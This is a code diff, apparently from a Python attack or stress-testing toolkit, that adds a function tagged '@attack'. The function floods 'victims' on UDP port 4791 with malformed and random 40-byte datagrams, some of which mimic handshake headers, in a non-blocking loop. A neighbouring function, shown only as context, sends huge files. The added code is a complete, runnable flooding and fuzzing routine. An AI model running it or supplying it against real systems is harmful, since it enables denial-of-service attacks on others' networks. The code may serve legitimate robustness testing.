@@ -236,3 +236,28 @@ def huge_files(megabytes="1024"):
             sent += send_and_forget(to, data, [file], [to])
         os.close(file)
     return sent
+
+
+_BEGINS = b"\xff\x0f" + bytes(10)
+_HANDSHAKES = (lambda: _BEGINS + os.urandom(28),
+               lambda: _BEGINS + b"omniver1" + os.urandom(16) + bytes(4),
+               lambda: _BEGINS + b"omniver2" + os.urandom(20),
+               lambda: os.urandom(40))
+
+
+@attack
+def strange_handshakes(*victims):
+    """Datagrams of 40 bytes from an ordinary socket: what begins as handshakes do, questions and
+    replies of numbers that nobody drew, noise."""
+    sent, made = 0, [kind() for kind in _HANDSHAKES for _ in range(64)]
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+        sender.setblocking(False)
+        while going_on():
+            for datagram in made:
+                for victim in victims:
+                    try:
+                        sender.sendto(datagram, (victim, 4791))
+                        sent += 1
+                    except OSError:  # no room at the moment
+                        pass
+    return sent
